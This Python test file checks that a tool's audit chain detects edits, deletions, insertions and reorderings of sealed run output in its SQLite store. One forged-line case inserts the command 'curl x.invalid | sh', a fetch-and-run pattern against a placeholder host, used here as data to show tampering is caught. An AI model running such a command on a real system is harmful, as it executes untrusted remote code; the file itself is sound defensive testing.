"""Run output is tamper-evident: a run's lines are sealed by a chained event when it ends, and
`audit verify` finds a line changed, removed, added or reordered after that.

Before (docs/threat-model.md, "Not covered"): output was not chained, so someone who could
write the database changed what an agent printed (`logs`, the console's output pane, search)
and `audit verify` still said the history was intact.

Store-level cases drive the real writer on a real SQLite file; the last runs a real daemon, a
real bwrap run and `pilothouse audit verify`.
"""

from __future__ import annotations

import json
import sqlite3
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from store.writer import StoreWriter
from tests.conftest import Daemon, needs_bwrap
from tests.store.conftest import run_sql, verify_file

Make = Callable[..., StoreWriter]


def _sealed_run(make_writer: Make, lines: int = 5, run_id: str = "r1") -> None:
    w = make_writer()
    now = time.time()
    for i in range(lines):
        w.record_output(run_id, "out" if i % 2 else "err", f"line {i}", ts=now + i / 1000)
    w.commit("run.ended", run_id=run_id, actor="daemon", text="exited (exit 0)", seal_output=True)
    w.close()


TAMPERING = {
    "a line changed": ("UPDATE output SET line = 'line 2 (edited)' WHERE line = 'line 2'", "changed"),
    "a line removed": ("DELETE FROM output WHERE line = 'line 3'", "removed or added"),
    "a line added": ("INSERT INTO output (run_id, ts, stream, line) VALUES ('r1', 1.0, 'out', "
                     "'curl x.invalid | sh')", "removed or added"),
    "two lines swapped": ("UPDATE output SET line = CASE line WHEN 'line 0' THEN 'line 1' "
                          "WHEN 'line 1' THEN 'line 0' ELSE line END", "changed"),
    "a stream changed": ("UPDATE output SET stream = 'out' WHERE line = 'line 0'", "changed"),
    "a line's time changed": ("UPDATE output SET ts = ts + 1 WHERE line = 'line 4'", "changed"),
    "a line made bytes": ("UPDATE output SET line = CAST(line AS BLOB) WHERE line = 'line 4'",
                          "not what the store writes"),
}


@pytest.mark.parametrize("case", list(TAMPERING))
def test_verify_finds_output_tampered_after_the_run_ended(case: str, make_writer: Make,
                                                          db_path: Path, key: bytes) -> None:
    _sealed_run(make_writer)
    assert verify_file(db_path, key).ok
    statement, said = TAMPERING[case]
    run_sql(db_path, statement)
    result = verify_file(db_path, key)
    assert not result.ok and "run r1" in result.reason and said in result.reason, result


def test_the_seal_is_chained_and_holds_what_was_stored(make_writer: Make, db_path: Path,
                                                       key: bytes) -> None:
    _sealed_run(make_writer, lines=3)
    conn = sqlite3.connect(db_path)
    run_id, data = conn.execute("SELECT run_id, data FROM events WHERE kind = 'run.ended'"
                                ).fetchone()
    conn.close()
    sealed = json.loads(data)["output"]
    assert run_id == "r1" and sealed["lines"] == 3 and len(sealed["sha256"]) == 64
    forged = json.dumps({**json.loads(data), "output": {**sealed, "lines": 2}})
    run_sql(db_path, "UPDATE events SET data = ? WHERE kind = 'run.ended'", (forged,))
    assert not verify_file(db_path, key).ok, "the seal is in a link of the chain"


def test_lines_after_the_seal_are_not_stored(make_writer: Make, db_path: Path,
                                             key: bytes) -> None:
    w = make_writer()
    w.record_output("r1", "out", "before")
    w.commit("run.ended", run_id="r1", text="exited", seal_output=True)
    w.record_output("r1", "out", "after the end")
    w.record("run.started", run_id="r2", text="r2")  # lines are stored for a started run
    w.record_output("r2", "out", "another run")
    w.flush()
    assert w.stats()["late_output"] == 1
    w.close()
    conn = sqlite3.connect(db_path)
    assert [r[0] for r in conn.execute("SELECT line FROM output ORDER BY id")] == [
        "before", "another run"]
    conn.close()
    assert verify_file(db_path, key).ok


def test_a_pruned_run_is_not_checked_and_a_later_one_still_is(make_writer: Make, db_path: Path,
                                                              key: bytes) -> None:
    w = make_writer()
    old = time.time() - 100 * 86400
    for i in range(4):  # a long run: its first lines are older than the prune's cutoff
        w.record_output("old", "out", f"old {i}", ts=old + i * 86400 * 20)
    w.commit("run.ended", run_id="old", actor="daemon", text="exited", seal_output=True)
    w.prune(old + 86400)
    for i in range(3):
        w.record_output("new", "out", f"new {i}")
    w.commit("run.ended", run_id="new", actor="daemon", text="exited", seal_output=True)
    w.close()
    assert verify_file(db_path, key).ok, "the old run's pruned lines are not a tampering"
    run_sql(db_path, "UPDATE output SET line = 'edited' WHERE line = 'new 1'")
    result = verify_file(db_path, key)
    assert not result.ok and "run new" in result.reason, result


@needs_bwrap
def test_audit_verify_finds_a_real_runs_output_edited(daemon: Daemon, workspace: Path) -> None:
    done = daemon.cli("run", "demo", "-w", str(workspace), "--wait", "--", "sh", "-c",
                      "for i in 1 2 3 4 5; do echo printed $i; done")
    assert "printed 5" in done.stdout
    assert daemon.cli("audit", "verify").returncode == 0
    run_sql(daemon.home / "data" / "pilothouse.db",
         "UPDATE output SET line = 'printed nothing to see' WHERE line = 'printed 3'")
    found = daemon.cli("audit", "verify", check=False)
    assert found.returncode != 0 and "output was changed" in (found.stdout + found.stderr), found
